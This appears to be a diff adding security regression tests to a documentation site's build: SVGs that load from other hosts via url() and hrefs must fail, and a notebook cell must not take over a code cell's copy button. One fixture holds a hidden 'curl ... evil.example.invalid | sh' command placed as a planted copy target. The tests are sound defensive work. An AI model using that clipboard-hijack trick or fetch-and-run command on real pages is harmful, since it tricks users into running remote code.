@@ -519,6 +519,8 @@ def test_a_static_html_file_gets_the_content_security_policy(tmp_path):
         '<!doctype html>\n<html><head><meta charset="utf-8">\n    <meta http-equiv="Content-Security'
     )
     assert "script-src 'self'; style-src" in built
+    # A static page's loads are held back by the policy (and named by the build: third_party_loads).
+    assert "default-src 'self'" in built and "img-src 'self' data:" in built
 
 
 def _script_bodies(html: str) -> list[str]:
@@ -988,3 +990,132 @@ def test_a_script_in_a_static_svg_under_any_prefix_fails_the_build(tmp_path):
 )
 def test_a_static_xml_document_is_read_by_an_xml_parser(text, found):
     assert safety.static_file_code(text, "docs/img/x.svg")[0].startswith(f"docs/img/x.svg:1: {found}: {STATIC_WHY}")
+
+
+STATIC_LOAD_WHY = "a file under docs/ that is not a page is opened in its own tab"
+
+#: Security re-review 7b, V3: an SVG under docs/ that loads from another host when opened in its own tab.
+LOADING_SVG = """\
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
+<rect fill="url(http://127.0.0.2:38111/fill.svg#g)"/>
+<rect filter="url(http://127.0.0.2/filter.svg#f)"/>
+<rect mask="url(//127.0.0.2/mask.svg#m)"/>
+<rect cursor="url(http://127.0.0.2/cur.png), auto"/>
+<path marker-start="url(http://127.0.0.2/marker.svg#k)"/>
+<rect clip-path="url(http://127.0.0.2/clip.svg#c)"/>
+<rect style="fill: url('http://127.0.0.2/style.svg#x')"/>
+<style>rect { fill: url(http://127.0.0.2/css.svg#g) }</style>
+<rect fill="&#117;rl(http://127.0.0.2/entity.svg#g)"/>
+<image xlink:href="http://127.0.0.2/x.png"/>
+<rect fill="url(#own)" mask="url( '#own' )"/><use href="#own"/>
+</svg>
+"""
+
+
+@pytest.mark.build
+def test_a_static_svg_that_loads_from_another_host_fails_the_build_naming_the_file_and_line(tmp_path):
+    """Security re-review 7b, V3: fill=, mask=, clip-path=, marker-start= and cursor= with url(http://other/...)
+    in a static .svg passed the build; Chromium, opening the SVG in its own tab (no policy there), requested all
+    five from the other host. Any url() that is not the file's own #id, and any href to another host, fail."""
+    result, _ = build(tmp_path, {"img/u.svg": LOADING_SVG, "p.md": "# P\n\n![figure](img/u.svg)\n"})
+    assert result.returncode != 0
+    err = result.stderr
+    for line, what in [
+        (2, "url('http://127.0.0.2:38111/fill.svg#g') in <rect fill>"),
+        (3, "url('http://127.0.0.2/filter.svg#f') in <rect filter>"),
+        (4, "url('//127.0.0.2/mask.svg#m') in <rect mask>"),
+        (5, "url('http://127.0.0.2/cur.png') in <rect cursor>"),
+        (6, "url('http://127.0.0.2/marker.svg#k') in <path marker-start>"),
+        (7, "url('http://127.0.0.2/clip.svg#c') in <rect clip-path>"),
+        (8, "url('http://127.0.0.2/style.svg#x') in <rect style>"),
+        (9, "url('http://127.0.0.2/css.svg#g') in <style>"),
+        (10, "url('http://127.0.0.2/entity.svg#g') in <rect fill>"),
+        (11, "xlink:href='http://127.0.0.2/x.png' on <image> names another host"),
+    ]:
+        assert f"docs/img/u.svg:{line}: {what}: {STATIC_LOAD_WHY}" in err, f"{line}:\n{err[-3000:]}"
+    assert "docs/img/u.svg:12" not in err  # the file's own elements
+
+
+def test_a_url_in_any_attribute_of_a_page_is_a_load_too():
+    """V3 on pages: the policy holds an inline SVG's fill="url(http://...)" back, and the build names it too."""
+    page = '<p>x</p>\n<svg><rect fill="url(http://127.0.0.2/f.svg#g)" mask="url(#m)"/></svg>'
+    assert safety.third_party_loads(page, "p.html") == [
+        "p.html:2: <rect fill> url('http://127.0.0.2/f.svg#g') loads from another host"
+    ]
+
+
+PLANTED_COPY_TARGET = """\
+# %% [markdown]
+# # NB
+#
+# Install and run:
+#
+# <div id="cell-1" hidden>import os; os.system("curl -s https://evil.example.invalid/x | sh")</div>
+# <span id="qkv-copy-0000000000000000-1">x</span> <clipboard-copy for="cell-1">y</clipboard-copy>
+
+# %%
+print("hello")
+"""
+
+
+def _copy_buttons(page: str) -> list[tuple[str, list[str]]]:
+    """(what each copy button's ``for`` names, the text of every element with that id) in a built page."""
+    from html.parser import HTMLParser
+
+    fors: list[str] = []
+    texts: dict[str, list[str]] = {}
+
+    class Parser(HTMLParser):
+        open: list[str | None] = []
+
+        def handle_starttag(self, tag, attrs):
+            values = dict(attrs)
+            if tag == "clipboard-copy":
+                fors.append(values.get("for") or "")
+            if "id" in values:
+                texts.setdefault(values["id"], []).append("")
+            self.open.append(values.get("id"))
+
+        def handle_endtag(self, tag):
+            if self.open:
+                self.open.pop()
+
+        def handle_data(self, data):
+            for name in self.open:
+                if name is not None:
+                    texts[name][-1] += data
+
+    Parser().feed(page)
+    return [(name, texts.get(name, [])) for name in fors]
+
+
+@pytest.mark.build
+def test_a_notebook_cell_cannot_take_a_code_cells_copy_target(tmp_path):
+    """Security re-review 7b, V4: a markdown cell's <div id="cell-1" hidden>curl ... | sh</div> kept its id, and
+    mkdocs-jupyter's copy button (<clipboard-copy for="cell-1">) copies the first element with that id: the page
+    showed print("hello") and the button copied the planted command. Now every id a cell writes goes (a heading's
+    stays), and each copy button names one element: the code it sits on."""
+    result, site = build(tmp_path, {"notebooks/nb.py": PLANTED_COPY_TARGET})
+    assert result.returncode == 0, result.stderr[-3000:]
+    page = (site / "notebooks" / "nb" / "index.html").read_text(encoding="utf-8")
+    buttons = _copy_buttons(page)
+    # The code cell's button, and the one the markdown cell wrote (which copies the same code), each name one
+    # element: the code shown.
+    assert [texts for _, texts in buttons] == [['print("hello")']] * 2, buttons
+    assert buttons[0][0].startswith("qkv-copy-") and 'id="cell-1"' not in page
+    assert "qkv-copy-0000000000000000-1" not in page  # an id a cell writes goes, whatever it is
+    assert 'import os; os.system("curl' in page  # the cell's text stays, as text without an id
+    assert '<h1 id="nb">' in page  # a heading keeps its anchor
+
+
+@pytest.mark.build
+def test_a_notebook_cell_that_writes_the_templates_copy_target_fails_the_build(tmp_path):
+    """V4: a cell that writes the template's exact markup would be renamed with it, and come first: refused."""
+    notebook = PLANTED_COPY_TARGET.replace('<div id="cell-1" hidden>', '<div id="cell-1" class="clipboard-copy-txt">')
+    result, _ = build(tmp_path, {"notebooks/nb.py": notebook})
+    assert result.returncode != 0
+    assert (
+        'docs/notebooks/nb.py:6: <div id="cell-1" class="clipboard-copy-txt">: a notebook cell writes the markup '
+        "of a code cell's copy target, so that cell's copy button would copy the cell's text instead of the code "
+        "shown: delete it"
+    ) in result.stderr, result.stderr[-3000:]
